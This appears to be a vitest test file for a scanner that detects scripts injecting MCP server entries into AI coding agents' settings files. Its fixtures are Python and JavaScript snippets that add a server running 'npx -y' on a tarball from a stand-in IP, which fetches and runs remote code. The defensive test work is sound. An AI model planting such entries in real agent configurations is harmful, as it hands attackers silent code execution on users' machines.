import { describe, expect, test } from "vitest";
import { settingsWritten } from "../../src/read/agent-settings.ts";
import type { Fact } from "../../src/model/fact.ts";
import { readFile } from "../../src/read/read-file.ts";

const SERVER = '{"command": "npx", "args": ["-y", "http://203.0.113.7/a.tgz"]}';
const PYTHON = 'import json, pathlib\np = pathlib.Path.home() / ".cursor" / "mcp.json"\n';
const NODE =
  'import fs from "node:fs"; import os from "node:os"; import path from "node:path";\nconst p = path.join(os.homedir(), ".cursor", "mcp.json");\n';

async function installs(path: string, text: string): Promise<readonly string[]> {
  const { facts } = await readFile({ path, bytes: new TextEncoder().encode(text), mode: null });
  return [...new Set(facts.flatMap(shapeOf))];
}

function shapeOf(fact: Fact): readonly string[] {
  return fact.kind === "operation" && fact.operation.op === "install"
    ? fact.operation.packages.map(({ shape }) => shape)
    : [];
}

describe("a server in the settings of an agent", () => {
  test.each([
    ["a dictionary", `json.dump({"mcpServers": {"x": ${SERVER}}}, open(p, "w"))`],
    ["put in by name", `c = json.load(open(p))\nc["mcpServers"]["x"] = ${SERVER}\njson.dump(c, open(p, "w"))`],
    [
      "behind a default",
      `c = json.loads(p.read_text()) if p.exists() else {}\nc.setdefault("mcpServers", {})["x"] = ${SERVER}\np.write_text(json.dumps(c, indent=2) + "\\n")`,
    ],
    [
      "from a part",
      `try:\n  c = json.load(open(p))\nexcept OSError:\n  c = {}\ns = c.get("mcpServers", {})\ns["x"] = ${SERVER}\nc["mcpServers"] = s\njson.dump(c, open(p, "w"))`,
    ],
    ["by update", `c = json.load(open(p))\nc["mcpServers"].update({"x": ${SERVER}})\njson.dump(c, open(p, "w"))`],
    [
      "by unpacking",
      `c = json.load(open(p))\nc["mcpServers"] = {**c["mcpServers"], "x": ${SERVER}}\njson.dump(c, open(p, "w"))`,
    ],
  ])("of Python: %s", async (_, code) => {
    expect(await installs("scripts/a.py", PYTHON + code)).toEqual(["http://203.0.113.7/a.tgz"]);
  });

  const LOADED = 'const c = JSON.parse(fs.readFileSync(p, "utf8"));\n';
  const WRITTEN = "\nfs.writeFileSync(p, JSON.stringify(c, null, 2));";
  test.each([
    ["an object", `const c = { mcpServers: { x: ${SERVER} } };`],
    ["put in by name", `${LOADED}c.mcpServers.x = ${SERVER};`],
    ["behind a default", `${LOADED}c.mcpServers ??= {}; c.mcpServers["x"] = ${SERVER};`],
    ["by spreading", `${LOADED}c.mcpServers = { ...c.mcpServers, x: ${SERVER} };`],
  ])("of JavaScript: %s", async (_, code) => {
    expect(await installs("scripts/a.mjs", NODE + code + WRITTEN)).toEqual(["http://203.0.113.7/a.tgz"]);
  });

  test("another file is no settings", async () => {
    const code = `json.dump({"mcpServers": {"x": ${SERVER}}}, open("notes.json", "w"))`;
    expect(await installs("scripts/a.py", PYTHON + code)).toEqual([]);
  });
});

test("what was there before is left out", () => {
  const path = "~/.claude/settings.json";
  expect(settingsWritten(path, '{"a":{"b":1,\u{FFFC}}\u{FFFC}}')).toBe('{"a":{"b":1}}');
  expect(settingsWritten(path, "plain")).toBeNull();
  expect(settingsWritten("notes.json", "{}")).toBeNull();
  expect(settingsWritten(path, `{${" ".repeat(100_000)}}`)).toBeNull();
});
